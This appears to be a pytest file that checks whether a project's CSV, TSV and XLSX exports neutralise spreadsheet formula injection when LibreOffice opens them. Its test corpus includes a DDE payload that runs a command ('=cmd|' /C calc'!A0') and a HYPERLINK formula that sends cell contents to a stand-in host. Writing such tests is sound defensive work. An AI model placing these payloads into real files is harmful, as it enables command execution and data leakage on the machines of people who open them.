"""LibreOffice opens the files: no formula runs, and every text is unchanged."""

import re
import shutil
import subprocess
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from django.db import models
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from reports.formats.csv import neutralise
from tests.hostile.texts import TEXTS
from tests.reports.samples import columns, written
from tests.reports.test_csv import LEADERS, STARTERS

pytestmark = pytest.mark.once

CORPUS = [
    *(f"{leader}{starter}{rest}" for leader in LEADERS for starter in STARTERS
      for rest in ("1+1", "SUM(A1:A9)")),
    '=HYPERLINK("http://example.org/"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "=1+1,=1+1",
    *(f"a{separator}=1+1" for separator in ",;\t|"),
    *(text for text in TEXTS if text),
]  # fmt: skip
# What CSV cannot tell from a number is one in every spreadsheet.
NUMBERS = re.compile(r"[0-9.]+(e[0-9]+)?")
MADE = columns(text=models.TextField(), number=models.IntegerField())
FILES = {
    # Separator, quote, UTF-8, first line; and: formulas are to be run.
    "CSV:44,34,76,1,,0,false,false,false,false,false,-1,true": ["csv-safe", "csv-excel", "csv-raw"],
    "CSV:9,34,76,1,,0,false,false,false,false,false,-1,true": ["tsv-safe", "tsv-excel", "tsv-raw"],
    "": ["xlsx-safe", "xlsx-raw"],
}
RUN = ("csv-raw", "tsv-raw")
NAMES = [name for names in FILES.values() for name in names]


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Sequence[Any]]]:
    """The cells of each file after LibreOffice has opened it."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, "no LibreOffice: apt-get install libreoffice-calc-nogui"
    folder = tmp_path_factory.mktemp("office")
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    for options, names in FILES.items():
        command = [office, profile, "--headless", *([f"--infilter={options}"] if options else [])]
        command += ["--convert-to", "xlsx", "--outdir", str(folder / "out")]
        for name in names:
            format_, _, dialect = name.partition("-")
            path = folder / f"{name}.{format_}"
            path.write_bytes(written(format_, MADE, [(text, -5) for text in CORPUS], dialect))
            command.append(str(path))
        subprocess.run(command, check=True, capture_output=True, timeout=300)
    return {name: _cells(folder / "out" / f"{name}.xlsx") for name in NAMES}


def _cells(path: Path) -> list[Sequence[Any]]:
    return list(load_workbook(path).worksheets[0].iter_rows(min_row=2))


def _lines(text: str) -> str:
    """Returns the text with LibreOffice's line ends."""
    return re.sub("\r\n?|\n\r", "\n", text)


def _found(cell: Any) -> Any:
    return _lines(unescape(cell.value.replace("_x001f_", "_x001F_").replace("_xffff_", "\uffff")))


@pytest.mark.parametrize("name", NAMES)
def test_no_spreadsheet_runs_a_text_that_was_not_asked_for_raw(name: str, opened: Any) -> None:
    formulas = [cell.value for row in opened[name] for cell in row if cell.data_type == "f"]
    # Without neutralising they do run, so that this is not vain.
    assert len(formulas) >= 5 if name in RUN else formulas == []


@pytest.mark.parametrize("name", [name for name in NAMES if name not in RUN])
def test_every_text_comes_back_and_numbers_stay_numbers(name: str, opened: Any) -> None:
    made = str if name == "xlsx-raw" else neutralise
    rows = opened[name]
    assert len(rows) == len(CORPUS)
    for text, (cell, number, *others) in zip(CORPUS, rows, strict=True):
        assert (number.value, [other.value for other in others]) == (-5, [])
        if NUMBERS.fullmatch(text) and not name.startswith("xlsx"):
            assert cell.value == float(text)
        else:
            assert _found(cell) == _lines(made(text))
